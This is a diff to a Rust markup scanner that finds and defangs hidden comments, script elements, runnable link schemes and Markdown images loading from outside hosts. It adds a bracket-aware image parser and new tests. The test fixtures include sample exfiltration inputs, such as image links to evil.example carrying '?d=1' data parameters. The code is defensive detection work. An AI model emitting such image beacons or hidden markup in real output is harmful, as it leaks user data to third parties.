@@ -3,6 +3,7 @@
 //! A scan over the bytes determines which patterns could match at all; only those are tried.
 
 use std::cmp::Reverse;
+use std::collections::HashSet;
 use std::ops::Range;
 
 use aho_corasick::AhoCorasick;
@@ -15,8 +16,6 @@ use regex::Regex;
 use super::host;
 use crate::inspect::rendered::RenderedText;
 
-/// Most blanks between the beginning of a destination and its address.
-const BLANKS: usize = 16;
 /// Longest authority of a URL that is read, in bytes.
 const AUTHORITY: usize = 300;
 
@@ -55,13 +54,13 @@ pub(super) struct MarkupMatch {
     rendered: Option<Range<usize>>,
 }
 
+const FAR_IMAGE: &str = "has an image that is loaded from elsewhere";
+
 /// The sign that must occur in a text for a pattern to be tried.
 #[derive(Clone, Copy, PartialEq, Eq)]
 enum MarkupTrigger {
     /// A `<` and a letter, `/` or `!`.
     Tag,
-    /// The beginning of an image, `![`.
-    Image,
     /// One of the words in [`WORDS`].
     Word,
 }
@@ -86,7 +85,7 @@ const WORDS: [&str; 15] = [
 ];
 
 #[rustfmt::skip]
-const SPECS: [(MarkupTrigger, Defusal, &str, &str); 14] = [
+const SPECS: [(MarkupTrigger, Defusal, &str, &str); 13] = [
     (MarkupTrigger::Tag, Defusal::Tag, "has a comment that is not shown", r"(?s)<!--.*?(?:-->|\z)"),
     (MarkupTrigger::Tag, Defusal::Tag, "has an element that runs or loads something",
         r"(?is)<(?:script|style|iframe|object|svg|math|template|noscript)\b.*?</(?:script|style|iframe|object|svg|math|template|noscript)\s*>"),
@@ -104,8 +103,6 @@ const SPECS: [(MarkupTrigger, Defusal, &str, &str); 14] = [
     (MarkupTrigger::Tag, Defusal::Tag, "has an element that is not shown",
         r#"(?i)<[a-z][\w:-]*(?:[\s/]+[^\s"'<>/=]+(?:\s*=\s*(?:"[^"<]*"|'[^'<]*'|[^\s"'<>]+))?)*?[\s/]+hidden(?:\s*=\s*["'\w][^<>]*>?|[\s/][^<>]*>?|>|\z)"#),
     (MarkupTrigger::Tag, Defusal::Tag, "has a comment that is not shown", r"<(?:![^->][^>]*|\?[^>]*|/\s[^>]*|/[^a-zA-Z>/*\s][^>]*\s[^>\s][^>]*)>"),
-    (MarkupTrigger::Image, Defusal::Image, "has an image that is loaded from elsewhere",
-        r"!\[[^\]\n]*\](?:\(\s*<?\s*(?:(?i:https?:)[/\\]*|[/\\]{2,})[^)\n]*\)?|\[[^\]\n]*\])"),
     (MarkupTrigger::Word, Defusal::Scheme, "has a link that runs something",
         r#"(?i)\b(?:javascript|vbscript|livescript):|\bdata:(?:text/html|text/xml|image/svg|application/x)|(?:\]\(\s*<?|\b(?:href|src)\s*=\s*["']?\s*)(?:command|vscode[\w-]*|cursor|ms-[\w-]+|search-ms|file):"#),
     (MarkupTrigger::Word, Defusal::Scheme, "has a comment that is not shown", r"(?m)^\s*\[//\]:[^\n]*"),
@@ -165,14 +162,10 @@ fn search(text: &str, hosts: &[Pattern], budget: &WorkBudget, found: &mut Vec<Ma
     let is_tag =
         |at: usize| next(at).is_ascii_alphabetic() || matches!(next(at), b'/' | b'!' | b'?');
     let tag = memchr_iter(b'<', bytes).any(is_tag);
-    let image = has_pair(bytes, *b"![");
     let word = signs_of_words(bytes, tag) && compiled.words.is_match(bytes);
-    // Whether reference definitions lead elsewhere depends on the whole text, so it is determined once.
-    let refers = image && refers(bytes);
     for (sign, fix, note, pattern) in &compiled.patterns {
         let could = match sign {
             MarkupTrigger::Tag => tag,
-            MarkupTrigger::Image => image,
             MarkupTrigger::Word => word,
         };
         if !could {
@@ -182,10 +175,6 @@ fn search(text: &str, hosts: &[Pattern], budget: &WorkBudget, found: &mut Vec<Ma
             return;
         }
         for one in pattern.find_iter(text) {
-            // An image by reference loads something only if its definition leads elsewhere.
-            if *fix == Defusal::Image && one.as_str().ends_with(']') && !refers {
-                continue;
-            }
             if is_declaration(one.as_str()) {
                 continue;
             }
@@ -193,6 +182,14 @@ fn search(text: &str, hosts: &[Pattern], budget: &WorkBudget, found: &mut Vec<Ma
                 return;
             }
             found.push(MarkupMatch::new(one.range(), note, *fix));
+        }
+    }
+    if has_pair(bytes, *b"![") && budget.spend(text.len()) {
+        for image in far_images(text) {
+            if !budget.spend(EACH_FOUND) {
+                return;
+            }
+            found.push(MarkupMatch::new(image, FAR_IMAGE, Defusal::Image));
         }
     }
     links(text, hosts, budget, found);
@@ -268,18 +265,99 @@ fn ends_with(bytes: &[u8], at: usize, word: &[u8]) -> bool {
     start.and_then(|start| bytes.get(start..at)).is_some_and(|w| w.eq_ignore_ascii_case(word))
 }
 
-/// Whether a text defines a link reference to another host.
-fn refers(bytes: &[u8]) -> bool {
-    let is_far = |at: usize| {
-        let behind = bytes.get(at + 2..).unwrap_or_default();
-        let blanks =
-            behind.iter().take(BLANKS).take_while(|byte| byte.is_ascii_whitespace()).count();
-        let target = behind.get(blanks..).unwrap_or_default();
-        let target = target.strip_prefix(b"<").unwrap_or(target);
-        let slashes = target.iter().take(2).filter(|byte| matches!(byte, b'/' | b'\\')).count();
-        slashes == 2 || target.get(..4).is_some_and(|word| word.eq_ignore_ascii_case(b"http"))
+/// The images of Markdown that are loaded from elsewhere. What an image shows may have brackets in it (CommonMark, sections
+/// 6.3 and 6.4), and code with a bracket that counts for nothing: so an image is also what one of the two would be.
+fn far_images(text: &str) -> Vec<Range<usize>> {
+    let (bytes, labels) = (text.as_bytes(), far_labels(text));
+    let is_image =
+        |from: &usize| from.checked_sub(1).and_then(|before| bytes.get(before)) == Some(&b'!');
+    let (mut found, mut done, mut escaped) = (Vec::new(), 0, None);
+    // The brackets that are open, and whether an image with no bracket in it ends at the next one.
+    let (mut open, mut recent) = (Vec::new(), None);
+    for at in memchr::memchr3_iter(b'[', b']', b'\\', bytes) {
+        if at < done || escaped == Some(at) {
+            continue;
+        }
+        match bytes.get(at) {
+            Some(b'\\') => {
+                escaped = Some(at + 1);
+                continue;
+            }
+            Some(b'[') => {
+                open.push(at);
+                recent = Some(at).filter(is_image).or(recent);
+                continue;
+            }
+            _ => {}
+        }
+        let (first, inner) = (recent.take(), open.pop());
+        let Some(from) = inner.filter(is_image).or(first) else { continue };
+        let behind = text.get(at + 1..).unwrap_or_default();
+        let end = match behind.as_bytes().first() {
+            Some(b'(') => behind
+                .get(1..)
+                .filter(|target| is_far(target))
+                .map(|_| behind.find([')', '\n']).map_or(behind.len(), |end| end + 1)),
+            // By reference, if its definition leads there.
+            Some(b'[') if labels.is_empty() => None,
+            Some(b'[') => behind.find(']').map(|end| end + 1),
+            _ => {
+                let label =
+                    text.get(from + 1..at).filter(|_| first.is_some() && !labels.is_empty());
+                let is_known = label.is_some_and(|label| labels.contains(&label_of(label)));
+                if !is_known {
+                    // The bracket may count for nothing.
+                    open.push(from);
+                }
+                is_known.then_some(0)
+            }
+        };
+        if let Some(end) = end {
+            done = at + 1 + end;
+            found.push(from - 1..done);
+        }
+    }
+    found
+}
+
+/// Whether a target leads to another host: an address with `http:` or with two slashes in front.
+fn is_far(target: &str) -> bool {
+    let target = target.trim_ascii_start();
+    let target = target.strip_prefix('<').map_or(target, str::trim_ascii_start).as_bytes();
+    let slashes = target.iter().take(2).filter(|byte| matches!(byte, b'/' | b'\\')).count();
+    let begins = |scheme: &[u8]| {
+        target.get(..scheme.len()).is_some_and(|start| start.eq_ignore_ascii_case(scheme))
     };
-    memmem::find_iter(bytes, b"]:").any(is_far)
+    slashes == 2 || begins(b"http:") || begins(b"https:")
+}
+
+/// Where the first target that leads to another host begins, less `](`.
+fn far_target(text: &str) -> Option<usize> {
+    let mut targets = text.match_indices("](");
+    targets.find(|(at, _)| text.get(at + 2..).is_some_and(is_far)).map(|(at, _)| at)
+}
+
+/// The labels of link references that lead to another host.
+fn far_labels(text: &str) -> HashSet<String> {
+    let (mut found, mut begins) = (HashSet::new(), None);
+    for at in memchr::memchr2_iter(b'[', b']', text.as_bytes()) {
+        if text.as_bytes().get(at) == Some(&b'[') {
+            begins = Some(at + 1);
+            continue;
+        }
+        let behind = text.get(at + 1..).and_then(|behind| behind.strip_prefix(':'));
+        if let Some(label) = begins.take().and_then(|from| text.get(from..at))
+            && behind.is_some_and(is_far)
+        {
+            found.insert(label_of(label));
+        }
+    }
+    found
+}
+
+/// A label as it is compared (CommonMark, section 6.3).
+fn label_of(text: &str) -> String {
+    text.split_whitespace().collect::<Vec<_>>().join(" ").to_lowercase()
 }
 
 /// A link that is shown and cannot be followed: `hxxps://host[.]example/path`.
@@ -318,7 +396,7 @@ impl FoundMarkup {
 fn defanged(fix: Defusal, text: &str) -> String {
     match fix {
         Defusal::Tag => text.replace('<', "&lt;"),
-        Defusal::Image => match text.find("](") {
+        Defusal::Image => match far_target(text) {
             Some(at) => {
                 let (shown, target) = text.split_at_checked(at + 2).unwrap_or((text, ""));
                 format!("{}{}", shown.trim_start_matches('!'), dead(target))
@@ -333,7 +411,8 @@ fn defanged(fix: Defusal, text: &str) -> String {
 /// Appends the links that are deceptive or lead to a host that is not permitted.
 fn links(text: &str, hosts: &[Pattern], budget: &WorkBudget, found: &mut Vec<MarkupMatch>) {
     let bytes = text.as_bytes();
-    let signs = memchr::memchr2_iter(b':', b'/', bytes).filter_map(|at| begins(bytes, at));
+    let signs = memchr::memchr3_iter(b':', b'/', b'\\', bytes);
+    let signs = signs.filter_map(|at| begins(bytes, at));
     // An address without a scheme, of which GitHub and others make a link.
     let is_alone = |at: &usize| {
         let before = at.checked_sub(1).and_then(|before| bytes.get(before));
@@ -394,23 +473,35 @@ fn begins(bytes: &[u8], at: usize) -> Option<(usize, usize)> {
         let is_drive = scheme == "file" && matches!(behind.get(2..4), Some([_, b':' | b'|']));
         return (slashes() == 2 && !is_drive).then_some((at - scheme.len(), at + 3));
     }
-    let leads = matches!(behind.first(), Some(b'/' | b'\\')) && is_target(bytes, at);
+    let is_slash = bytes.get(at) == Some(&b'/');
+    let leads = matches!(behind.first(), Some(b'/' | b'\\'))
+        && if is_slash { is_target(bytes, at) } else { is_behind(bytes, at, &LINKS) };
     leads.then(|| (at, at + 1 + slashes()))
 }
 
+/// What stands in front of the address of a link, in front of blanks too. In a program, comments have none of it in front.
+const LINKS: [&[u8]; 9] =
+    [b"](", b"](<", b"]:", b"href=", b"href=\"", b"href='", b"src=", b"src=\"", b"src='"];
+
 /// Whether the address of a link stands at a place: a destination in Markdown, or the value of an attribute.
 fn is_target(bytes: &[u8], at: usize) -> bool {
-    const SIGNS: [&[u8]; 8] = [b"(", b"(<", b"=\"", b"='", b"=", b"]: ", b"]:", b"<"];
-    // In front of blanks, where a program has no comment.
-    const SPACED: [&[u8]; 7] = [b"](", b"](<", b"=\"", b"='", b"]:", b"href=", b"src="];
-    let Some(before) = bytes.get(at.saturating_sub(BLANKS)..at) else { return false };
-    let Some(last) = before.last() else { return false };
-    if !last.is_ascii_whitespace() && !b"(<\"'=:".contains(last) {
-        return false;
+    const CLOSE: [&[u8]; 6] = [b"(", b"(<", b"=\"", b"='", b"=", b"<"];
+    let before = bytes.get(..at).unwrap_or_default();
+    match before.last() {
+        Some(b'(' | b'<' | b'"' | b'\'' | b'=')
+            if CLOSE.iter().any(|sign| before.ends_with(sign)) =>
+        {
+            true
+        }
+        Some(_) => is_behind(bytes, at, &LINKS) || is_behind(bytes, at, &[b"=\"", b"='"]),
+        None => false,
     }
-    let close = before.trim_ascii_end();
-    SIGNS.iter().any(|sign| before.ends_with(sign))
-        || close.len() < before.len() && SPACED.iter().any(|sign| close.ends_with(sign))
+}
+
+/// Whether one of these signs stands in front of a place, with or without blanks between.
+fn is_behind(bytes: &[u8], at: usize, signs: &[&[u8]]) -> bool {
+    let before = bytes.get(..at).unwrap_or_default().trim_ascii_end();
+    signs.iter().any(|sign| before.ends_with(sign))
 }
 
 /// The authority that begins at a place. Before an `@`, a browser does not end it at the characters that end one in
@@ -535,6 +626,8 @@ mod tests {
             "<meta charset=utf-8>",
             "data: text",
             "arr![0]",
+            "vec![0] of [docs](https://example.org) and\n\n[other]: https://example.org",
+            "![x](./a.png) and ![y]\n\n[y]: ./b.png",
             "the key: //",
             "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=y&#62;",
             "<p class=\"md:block hidden lg:flex\" aria-hidden=\"true\" data-hidden>x</p>",
@@ -602,6 +695,14 @@ mod tests {
             "![x](/\\\\evil.example/?d=1)",
             "![x](https:evil.example/?d=1)",
             "![x]( //evil.example/?d=1 )",
+            "![a [b [c]] d](https://evil.example/?d=1)",
+            "![a\nb](https://evil.example/?d=1)",
+            "![a\\]b](https://evil.example/?d=1)",
+            "![a `]` b](https://evil.example/?d=1)",
+            "![a `[` b](https://evil.example/?d=1)",
+            "![x](https://evil.example/a]\n)",
+            "![x]\n\n[X]: https://evil.example/p.png",
+            "![x][]\n\n[x]:                     //evil.example/p.png",
             "![x][r]\n\n[r]: https&#58;//evil.example/?d=1",
             "![x][r]\n\n[r]:\n  <//evil.example>",
             "<img src=\"https&#58;//evil.example/?d=1\">",
@@ -646,6 +747,9 @@ mod tests {
             "[x](https&#58;//evil.example)",
             "<a href=\"ht\ntps://evil.example/\">",
             "[x]( //evil.example )",
+            "[x](                                  //evil.example )",
+            "[x](\\\\\\\\evil.example)",
+            "<a href=\"\\\\evil.example\">",
             "[x](https:evil.example)",
             "<a href=\"&#47;&#47;evil.example\">",
             "[x](///evil.example)",
